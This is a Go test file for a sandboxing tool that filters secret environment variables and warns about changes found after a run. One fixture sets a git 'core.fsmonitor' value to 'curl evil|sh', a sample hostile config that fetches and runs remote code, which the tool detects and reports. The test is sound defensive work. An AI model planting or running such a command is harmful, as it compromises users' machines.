package main

import (
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/sandgate/sandgate/config"
	"github.com/sandgate/sandgate/envfilter"
	"github.com/sandgate/sandgate/fsview"
	"github.com/sandgate/sandgate/sandbox"
)

func TestFilterEnv(t *testing.T) {
	t.Setenv("SGTEST_API_TOKEN", "t0k")
	t.Setenv("SGTEST_DB_PASSWORD", "pw")
	t.Setenv("SGTEST_PLAIN", "plain")
	t.Setenv("SGTEST_KEPT_SECRET", "kept")
	cf := &config.File{Environment: config.Environment{Keep: []string{"SGTEST_KEPT_*"}}}
	h := hostFlags{env: []string{"SGTEST_DB_PASSWORD"}}
	var spec sandbox.Spec
	line, err := h.filterEnv(cf, &spec)
	if err != nil {
		t.Fatal(err)
	}
	for _, kv := range []string{"SGTEST_PLAIN=plain", "SGTEST_DB_PASSWORD=pw", "SGTEST_KEPT_SECRET=kept"} {
		if !slices.Contains(spec.Env, kv) {
			t.Errorf("%s was not passed on", kv)
		}
	}
	for _, kv := range spec.Env {
		if strings.HasPrefix(kv, "SGTEST_API_TOKEN=") {
			t.Errorf("%s was passed on", kv)
		}
	}
	if !strings.Contains(line, "SGTEST_API_TOKEN") || !strings.Contains(line, "--env") || strings.Contains(line, "SGTEST_DB_PASSWORD") {
		t.Errorf("summary %q", line)
	}
	if _, err := (&hostFlags{env: []string{"A=B"}}).filterEnv(cf, &spec); err == nil {
		t.Error("--env A=B accepted")
	}
}

// withoutSecretEnv unsets, for the test, the variables of the test's
// environment that run would not pass to CMD.
func withoutSecretEnv(t *testing.T) {
	t.Helper()
	_, dropped := envfilter.Filter(os.Environ(), nil)
	for _, k := range dropped {
		v := os.Getenv(k)
		t.Setenv(k, v) // restored when the test ends
		os.Unsetenv(k)
	}
}

// TestWarnViewChanged: a changed path and each finding of the check after
// the run are one warning line each on stderr.
func TestWarnViewChanged(t *testing.T) {
	var b strings.Builder
	warnViewChanged(&b, []string{"/ws/.profile"}, []fsview.Finding{
		{Kind: fsview.FoundHook, Path: "/ws/x/.git/hooks/post-checkout", Why: "git runs it", Disarmed: true},
		{Kind: fsview.FoundConfigKey, Path: "/ws/x/.git/config", Key: "core.fsmonitor", Value: "curl evil|sh", Count: 1},
	})
	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
	want := []string{"/ws/.profile, which CMD must not write", "chmod +x /ws/x/.git/hooks/post-checkout",
		"git config --file /ws/x/.git/config --unset core.fsmonitor"}
	if len(lines) != len(want) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(want), b.String())
	}
	for i, l := range lines {
		if !strings.HasPrefix(l, "sandgate: warning: ") || !strings.Contains(l, want[i]) {
			t.Errorf("line %d = %q, want a warning with %q", i, l, want[i])
		}
	}
}
